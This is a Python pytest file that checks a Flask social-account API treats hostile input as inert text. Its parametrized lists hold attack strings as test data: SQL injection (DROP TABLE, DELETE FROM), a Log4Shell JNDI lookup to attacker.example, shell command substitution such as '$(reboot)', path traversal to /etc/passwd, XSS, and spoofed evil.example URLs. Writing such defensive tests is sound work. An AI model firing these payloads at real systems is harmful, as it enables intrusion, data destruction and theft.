"""Texts that mean something to somebody else: a database, a log, a template, a browser."""

import json
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.support import stored
from tests.support.databases import ON_BOTH, ON_ONE
from tests.support.factories import PATH, as_admin, as_user, errors_of, external, facebook, path_of

pytestmark = ON_ONE

INJECTIONS = [
    "' OR '1'='1",
    "'; DROP TABLE social_association; --",
    '" OR ""="',
    "fb-1' UNION SELECT user_id FROM admin_grant --",
    "\\'; DELETE FROM social_association; --",
    "$$; SELECT pg_sleep(5); $$",
    "1; ATTACH DATABASE '/tmp/x' AS x",
    "%(of_user_id)s %s %% :limit ? $1",
    "%", "_", "*", "fb%", "fb-_",
    "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{user_id!r}", "%(name)s",
    "${jndi:ldap://attacker.example/a}",
    "$(reboot)", "`reboot`", "; reboot", "|reboot", "../../../etc/passwd", "file:///etc/passwd",
    "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "</script><svg/onload=alert(1)>",
    "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-1",
    '{"$gt": ""}', "[$ne]", "*)(uid=*", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "__proto__", "constructor", "null", "undefined", "NaN", "true", "nil", "0x7",
    '","user_id":8,"x":"',
]  # fmt: skip
FORGERIES = [
    'x\n{"level": "INFO", "event": "admin granted", "user_id": 8}',
    "x\r\n127.0.0.1 - - DELETE",
    "x\x1b[2J\x1b]0;title\x07",
    "x\u2028x",
    "x\u2029x",
    "x\x85x",
    "x\x0bx\x0c",
    "x\u202etxt.exe",
    "x\u200bx",
    "x\x00x",
    "x\ufeffx",
    "x\U000e0041x",
]
# Ends of a line: the two separators are neither control nor format characters.
PRINTED = ("\u2028", "\u2029")


@pytest.fixture
def stocked(client: FlaskClient) -> FlaskClient:
    """Users 7 and 8 have one association each."""
    client.post(PATH, json=facebook(), headers=as_user(7))
    client.post(PATH, json=facebook(user_id=8, ext_id="fb-8"), headers=as_user(8))
    return client


def rows(app: Flask) -> list[dict[str, Any]]:
    with app.app_context():
        return stored.rows()


@ON_BOTH
@pytest.mark.parametrize("text", INJECTIONS)
def test_an_ext_id_is_only_a_text(app: Flask, stocked: FlaskClient, text: str) -> None:
    """Created, listed, looked up, changed and deleted; nothing else is touched."""
    before, body = rows(app), facebook(ext_id=text)
    created = stocked.post(PATH, json=body, headers=as_user(7))
    assert (created.status_code, created.get_json()["ext_id"]) == (201, text)
    listed = stocked.get(path_of(7), headers=as_user(7)).get_json()
    assert [entry["ext_id"] for entry in listed] == ["fb-1", text]
    query = {"provider": "facebook", "ext_id": text}
    assert stocked.get(PATH, query_string=query, headers=as_admin()).get_json() == [listed[1]]
    changed = stocked.patch(PATH, json=body | {"show_in_profile": True}, headers=as_user(7))
    assert changed.get_json() == listed[1] | {"show_in_profile": True}
    deleted = stocked.delete(path_of(7), query_string=query, headers=as_user(7))
    assert (deleted.status_code, rows(app)) == (204, before)


@ON_BOTH
@pytest.mark.parametrize("text", INJECTIONS)
def test_a_pair_of_nobody_finds_nothing(app: Flask, stocked: FlaskClient, text: str) -> None:
    before, pair = rows(app), {"provider": "facebook", "ext_id": text}
    statuses = [
        stocked.get(PATH, query_string=pair, headers=as_admin()).get_json(),
        stocked.delete(path_of(7), json=pair, headers=as_user(7)).status_code,
        stocked.patch(
            path_of(7), json=pair | {"profile_url": None}, headers=as_user(7)
        ).status_code,
    ]
    assert (statuses, rows(app)) == ([[], 404, 404], before)


@ON_BOTH
@pytest.mark.parametrize("text", INJECTIONS)
def test_metadata_is_only_data(client: FlaskClient, text: str) -> None:
    metadata = {text: text, "list": [text, {text: [text]}]}
    for sent in (metadata, json.dumps(metadata)):
        client.post(PATH, json=external(metadata=sent), headers=as_user(7))
        assert client.get(path_of(7), headers=as_user(7)).get_json()[0]["metadata"] == metadata
        client.delete(PATH, json=external(), headers=as_user(7))


NAMES = {"constructor", "null", "undefined", "true", "nil", "0x7"}  # good ones for a provider


@pytest.mark.parametrize("text", INJECTIONS + FORGERIES)
def test_the_other_fields_take_no_such_text(app: Flask, stocked: FlaskClient, text: str) -> None:
    """And the refusal is the same bytes as for any other text: it repeats nothing."""
    before = rows(app)
    fields = ["user_id", "profile_url", "show_in_profile"] + ["provider"] * (text not in NAMES)
    for field in fields:
        response, other = (
            stocked.post(PATH, json=facebook(ext_id="new") | {field: bad}, headers=as_user(7))
            for bad in (text, "\\ ")
        )
        assert (response.status_code, errors_of(response)) == (400, {field: "invalid"})
        assert response.data == other.data
    assert rows(app) == before


@pytest.mark.parametrize("text", INJECTIONS + FORGERIES)
def test_a_query_takes_no_such_text(stocked: FlaskClient, text: str) -> None:
    for name in ("user_id", "page", "sort") + ("provider",) * (text not in NAMES):
        query = {name: text} | ({"ext_id": "fb-1"} if name == "provider" else {})
        response = stocked.get(PATH, query_string=query, headers=as_admin())
        assert (response.status_code, set(errors_of(response))) == (400, {name})


@pytest.mark.parametrize("text", FORGERIES)
def test_no_text_makes_a_line_in_the_log(
    client: FlaskClient, capfd: pytest.CaptureFixture[str], text: str
) -> None:
    """Each request is one line, whatever its fields, names, query and headers hold."""
    capfd.readouterr()
    for body in (
        facebook(ext_id=text),
        facebook(provider=text),
        facebook(profile_url=f"https://a.example/{text}"),
        facebook(**{text: text}),
        external(metadata={text: text}),
    ):
        client.post(PATH, json=body, headers=as_user(7))
    client.get(PATH, query_string={text: text}, headers=as_user(7))
    client.get(PATH, headers=as_user(7, jti=text, role=text, note=text))
    client.get(f"/api/v2/{text}".replace("\x00", "%00"))
    lines = [line for line in capfd.readouterr().err.split("\n") if line]
    assert len(lines) >= 8
    for line in lines:
        assert line.isprintable()
        assert json.loads(line)["event"] != "admin granted"


@pytest.mark.parametrize("text", FORGERIES)
def test_invisible_characters_make_no_second_identity(client: FlaskClient, text: str) -> None:
    """`x` and `x` with something unseen would look the same to who reads the list."""
    response = client.post(PATH, json=facebook(ext_id=text), headers=as_user(7))
    assert response.status_code == (201 if any(c in text for c in PRINTED) else 400)


URLS = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "javascript://example.com/%0aalert(1)",
    "\x01javascript:alert(1)", "java\tscript:alert(1)", "javascript\n:alert(1)",
    "jav&#x61;script:x",
    " javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PA==",
    "vbscript:msgbox(1)", "livescript:x", "mocha:x", "about:blank", "blob:https://example.com/x",
    "file:///etc/passwd", "ftp://example.com/", "gopher://example.com/", "view-source:https://a.b/",
    "filesystem:https://example.com/x", "intent://example.com#Intent;end", "tel:1", "mailto:a@b.c",
    "//example.com/", "///example.com", "/\\example.com", "\\\\example.com\\x", "https:example.com",
    "https:/example.com/", "https:///example.com/", "https://", "https://?", "https://#",
    "https:\\\\x",
    "https://facebook.com@evil.example/", "https://facebook.com%40evil.example/",
    "https://facebook.com:443@evil.example/", "https://facebook.com\\@evil.example/",
    "https://facebook.com\\.evil.example/", "https://evil.example\\facebook.com/",
    "https://f\u0430cebook.com/", "https://facebook\u3002com/", "https://face\u00adbook.com/",
    "https://\u24d5acebook.com/", "https://facebook.com\u2044.evil.example/",
    "https://facebook.com\u200b/", "https://facebook.com/\u202egpj.exe", "https://facebook.com/\r\nx",
    "https://facebook%2ecom/", "https://%66acebook.com/", "https://facebook.com\u2100evil.example/",
    "https://face book.com/", "https://facebook.com;evil.example/", "https://[::1", "https://::1/",
    "https://[::ffff:1.2.3.4%25eth0]/", "https://a..b/", "https://.a/", "https://-a/", "https://a-/",
    "https://a:99999/", "https://a:-1/", "https://a:0x50/", "https://a:80:80/", "http+unix://a/",
    "https://a,b/", "https://<script>/", "https://a'b/", 'https://a"b/', "https://a`b/", "https://$a/",
    "https://a/\x7f", "https://a/\x00", "https://a/ b", "HTTPS//a", "httpss://a/", "xhttps://a/",
]  # fmt: skip


@pytest.mark.parametrize("url", URLS)
def test_a_url_that_runs_or_leads_elsewhere_is_refused(
    app: Flask, stocked: FlaskClient, url: str
) -> None:
    before, body = rows(app), facebook(profile_url=url, show_in_profile=True)
    for method in ("POST", "PATCH"):
        response = stocked.open(PATH, method=method, json=body, headers=as_user(7))
        assert (response.status_code, errors_of(response)) == (400, {"profile_url": "invalid"})
    assert rows(app) == before


def test_what_goes_out_is_never_taken_for_html(client: FlaskClient) -> None:
    """A text that is a tag to a browser goes out as it came: as JSON, and as nothing else."""
    client.post(PATH, json=facebook(ext_id="<script>alert(1)</script>"), headers=as_user(7))
    response = client.get(path_of(7), headers=as_user(7))
    assert response.mimetype == "application/json"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
